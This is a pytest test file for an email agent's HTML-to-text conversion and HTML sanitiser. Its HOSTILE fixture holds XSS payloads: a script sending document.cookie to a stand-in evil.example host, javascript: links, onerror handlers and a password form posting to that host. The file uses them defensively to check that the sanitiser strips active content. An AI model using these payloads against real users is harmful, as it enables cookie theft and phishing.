"""HTML to readable text, and sanitising HTML for the web UI."""

from __future__ import annotations

import pytest

from mailagent.parse.htmltext import html_to_text, sanitize_html


def test_blocks_breaks_and_entities() -> None:
    html = "<p>Dear&nbsp;Tom &amp; team,</p><p>Price:   12&euro;</p><div>line<br>break</div>"
    assert html_to_text(html) == "Dear Tom & team,\n\nPrice: 12€\n\nline\nbreak"


def test_lists_and_tables() -> None:
    html = (
        "<ul><li>MOQ 500</li><li>Lead time 30 days<li>FOB Ningbo</ul>"
        "<table><tr><th>Item</th><th>Qty</th></tr><tr><td>A-1</td><td>500</td></tr></table>"
    )
    assert html_to_text(html) == (
        "- MOQ 500\n- Lead time 30 days\n- FOB Ningbo\n\nItem | Qty\nA-1 | 500"
    )


def test_links_show_url_only_when_different() -> None:
    html = (
        '<a href="https://shop.example/p/1">the product page</a> '
        '<a href="mailto:tom@example.com">tom@example.com</a> '
        '<a href="https://www.example.com/">www.example.com</a> '
        '<a href="https://tracker.example/x"><img src="cid:logo"></a>'
    )
    assert html_to_text(html) == (
        "the product page (https://shop.example/p/1) tom@example.com www.example.com"
    )


def test_invisible_content_is_dropped() -> None:
    html = (
        "<html><head><title>Newsletter</title><style>p {color: red}</style></head><body>"
        "<script>alert('x')</script><!-- tracking comment -->"
        '<p>Visible</p><div style="display: none">hidden preheader</div>'
        '<span hidden>also hidden</span><div style="visibility:hidden"><b>nested</b> hidden</div>'
        "<p>End</p></body></html>"
    )
    assert html_to_text(html) == "Visible\n\nEnd"


def test_outlook_and_gmail_blank_lines_survive() -> None:
    outlook = (
        '<p class="MsoNormal">Hello<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
        '<p class="MsoNormal">World</p>'
    )
    assert html_to_text(outlook) == "Hello\n\nWorld"
    gmail = "<div>Hello</div><div><br></div><div>World</div>"
    assert html_to_text(gmail) == "Hello\n\nWorld"


def test_broken_markup_still_yields_text() -> None:
    html = "<div><p>unclosed <b>bold <i>italic</div> tail </span></td> <p>next"
    # </div> closes the open <p>, <b> and <i>: the paragraph ends there.
    assert html_to_text(html) == "unclosed bold italic\n\ntail\n\nnext"


def test_pre_keeps_line_breaks_and_images_show_alt() -> None:
    html = '<pre>a   b\nc</pre><img alt="Company logo" src="cid:1"><img src="x.gif">'
    assert html_to_text(html) == "a   b\nc\n[Company logo]"


HOSTILE = """
<html><head><style>body{background:url(https://evil.example/bg)}</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script></head>
<body onload="steal()">
<p onclick="steal()" style="position:fixed;background:url(https://evil.example/css)">Hello</p>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(2)">click2</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
<a href="https://ok.example/order">order</a>
<img src="https://tracker.example/pixel.gif" alt="pixel" onerror="alert(3)">
<img src="cid:logo@company">
<img src="data:image/png;base64,iVBORw0KGgo=">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
<form action="https://evil.example/phish"><input name="password"></form>
<svg><script>alert(4)</script></svg>
<math><mtext><style>x</style></mtext></math>
</body></html>
"""


def test_sanitize_removes_everything_active() -> None:
    out = sanitize_html(HOSTILE).lower()
    for forbidden in (
        "<script", "onload", "onclick", "onerror", "javascript:", "<style", "style=",
        "<iframe", "<object", "<embed", "<form", "<input", "<svg", "data:text/html",
        "evil.example", "tracker.example", "data:image/svg",
    ):  # fmt: skip
        assert forbidden not in out, forbidden
    assert "hello" in out
    assert 'src="cid:logo@company"' in out
    assert 'src="data:image/png;base64,ivborw0kggo="' in out
    assert "[pixel]" in out


def test_sanitize_links_are_safe_to_open() -> None:
    out = sanitize_html('<a href="https://ok.example/order">order</a>')
    assert 'href="https://ok.example/order"' in out
    assert 'rel="noopener noreferrer nofollow"' in out
    assert 'target="_blank"' in out


def test_sanitize_remote_images_only_when_allowed() -> None:
    html = '<img src="https://cdn.example/product.jpg" alt="product">'
    assert "cdn.example" not in sanitize_html(html)
    assert "[product]" in sanitize_html(html)
    allowed = sanitize_html(html, allow_remote_images=True)
    assert 'src="https://cdn.example/product.jpg"' in allowed


@pytest.mark.parametrize("alt", ['"><script>alert(1)</script>', "<b>x</b>"])
def test_sanitize_placeholder_escapes_alt_text(alt: str) -> None:
    from html import escape

    out = sanitize_html(f'<img src="https://x.example/a.png" alt="{escape(alt)}">')
    assert "<script" not in out and "<b>" not in out
    assert "&lt;" in out
